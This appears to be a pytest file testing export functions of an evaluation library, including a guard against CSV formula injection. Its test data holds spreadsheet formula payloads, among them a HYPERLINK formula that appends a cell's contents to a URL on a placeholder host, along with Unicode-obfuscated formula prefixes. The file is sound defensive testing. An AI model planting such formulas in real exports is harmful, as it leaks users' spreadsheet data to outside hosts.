"""Exports that a spreadsheet cannot run, that a parser accepts, and that are whole or absent."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import BinaryIO

import pyarrow as pa
import pyarrow.parquet
import pytest

from jeval_core.data import read, to_csv, to_jsonl, to_junit, to_parquet
from jeval_core.data.export import written
from jeval_core.data.formula import MARK, guard, runs
from tests.data_io.files import MESSY, cells, csv_text, write

RUNS = [
    "=1+1", "+1 (555) 0100", "-2+3", "\u22121+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\tx", "\rx", "  =1", "\u00a0=1", "\ufeff=1",
    "\u200b@x", "＝1", "＋1", "－1", "＠x", "- apple", "-", "=", "--5", "-3 apples", "\u22123",
]  # fmt: skip
STAYS = ["", "a", "-3", "+5", "-3.5", "-1e5", "a=1", "a -b", "'=1", "é", " x", "3-4"]


@pytest.mark.parametrize("text", RUNS, ids=ascii)
def test_cells_that_run_get_an_apostrophe(text: str) -> None:
    assert runs(text)
    assert guard(pa.table({"a": [text]})).to_pylist() == [{"a": f"'{text}", MARK: '["a"]'}]


@pytest.mark.parametrize("text", STAYS, ids=ascii)
def test_other_cells_stay(text: str) -> None:
    assert not runs(text)
    assert guard(pa.table({"a": [text], "n": [-3]})).to_pylist() == [{"a": text, "n": -3}]


def test_formulas_of_the_messy_file(tmp_path: Path) -> None:
    table = read(MESSY / "28_formula_cells.csv")
    to_csv(table.columns, tmp_path / "out.csv")
    rows = list(csv.DictReader((tmp_path / "out.csv").open(encoding="utf-8", newline="")))
    assert [r["output"] for r in rows] == [
        '\'=HYPERLINK("http://example.invalid/?"&A1,"open")',
        "'+1 (555) 0100",
        "-3",
        "'@SUM(1)",
    ]
    assert json.loads(rows[1][MARK]) == ["output", "expected"] and rows[2][MARK] == ""
    assert cells(read(tmp_path / "out.csv")) == cells(table)


def test_names_of_columns_are_guarded_too(tmp_path: Path) -> None:
    to_csv(pa.table({"=a": ["x"], "b": ["y"]}), tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text().startswith('"\'=a"')
    assert read(tmp_path / "t.csv").names == ["=a", "b"]


def test_apostrophes_of_others_stay(tmp_path: Path) -> None:
    text = "'=' is an operator"
    assert cells(read(write(tmp_path, "t.csv", csv_text([["a", "b"], [text, "'-x"]])))) == [{"a": text, "b": "'-x"}]


def test_a_spoilt_mark_does_no_harm(tmp_path: Path) -> None:
    for mark in ("x", "[1]", '{"a": 1}', '["nobody"]', "[" * 9999):
        found = read(write(tmp_path, "t.csv", csv_text([["a", MARK], ["'=1", mark]])))
        assert cells(found) == [{"a": "'=1"}]


def test_csv_of_every_type(tmp_path: Path) -> None:
    table = pa.table(
        {
            "l": [["a", "=b"], None],
            "x": [float("nan"), 0.1],
            "d": pa.array(["=1", None]).dictionary_encode(),
            "t": [True, None],
        }
    )
    to_csv(table, tmp_path / "t.csv")
    assert cells(read(tmp_path / "t.csv")) == [
        {"l": '["a", "=b"]', "x": "", "d": "=1", "t": "true"},
        {"l": "", "x": "0.1", "d": "", "t": ""},
    ]


def test_jsonl_has_no_nan() -> None:
    out = io.BytesIO()
    to_jsonl(
        pa.table(
            {"x": [float("nan"), float("inf"), 0.5], "s": ["é\n", None, "\u2028"], "l": [[float("nan")], [], None]}
        ),
        out,
    )
    lines = out.getvalue().decode().split("\n")
    assert [json.loads(line, parse_constant=pytest.fail) for line in lines[:-1]] == [
        {"x": None, "s": "é\n", "l": [None]},
        {"x": None, "s": None, "l": []},
        {"x": 0.5, "s": "\u2028", "l": None},
    ]


def test_parquet_is_zstd_and_exact(tmp_path: Path) -> None:
    table = pa.table({"a": ["x", None, ""], "x": [1.5, float("nan"), None]})
    to_parquet(table, tmp_path / "t.parquet")
    file = pyarrow.parquet.ParquetFile(tmp_path / "t.parquet")
    assert file.metadata.row_group(0).column(0).compression == "ZSTD"
    assert file.read().column("a").to_pylist() == ["x", None, ""]


def test_files_are_whole_or_absent(tmp_path: Path) -> None:
    target = write(tmp_path, "t.jsonl", "before")

    def breaks(stream: BinaryIO) -> None:
        stream.write(b"half")
        raise OSError("the disk is full")

    with pytest.raises(OSError, match="full"):
        written(target, breaks)
    assert target.read_text() == "before" and [p.name for p in tmp_path.iterdir()] == ["t.jsonl"]
    to_jsonl(pa.table({"a": [1]}), target)
    assert target.read_text() == '{"a": 1}\n' and [p.name for p in tmp_path.iterdir()] == ["t.jsonl"]


def test_junit(tmp_path: Path) -> None:
    table = pa.table({
        "id": ["a", 'b<&">', "c\x00\x1b\ufffe\n", "d"],
        "bleu.score": [0.9, 0.1, None, None], "bleu.passed": [True, False, None, None],
        "bleu.status": ["scored", "scored", "skipped", "failed"], "bleu.reason": ["fine", "0.10 < 0.5 \x08", "no expected", "broke"],
        "gleu.status": ["scored"] * 4, "gleu.passed": [True] * 4,
    })  # fmt: skip
    to_junit(table, tmp_path / "t.xml", name="run 1")
    root = ET.parse(tmp_path / "t.xml").getroot()
    suite = root.find("testsuite[@name='bleu']")
    assert suite is not None and {k: suite.get(k) for k in ("tests", "failures", "errors", "skipped")} == {
        "tests": "4",
        "failures": "1",
        "errors": "1",
        "skipped": "1",
    }
    found = [(c.get("name"), c[0].tag if len(c) else None) for c in suite]
    assert found == [("a", None), ('b<&">', "failure"), ("c\ufffd\ufffd\ufffd\n", "skipped"), ("d", "error")]
    assert suite[1][0].get("message") == "0.10 < 0.5 \ufffd"
    assert len(root.findall("testsuite[@name='gleu']/testcase")) == 4
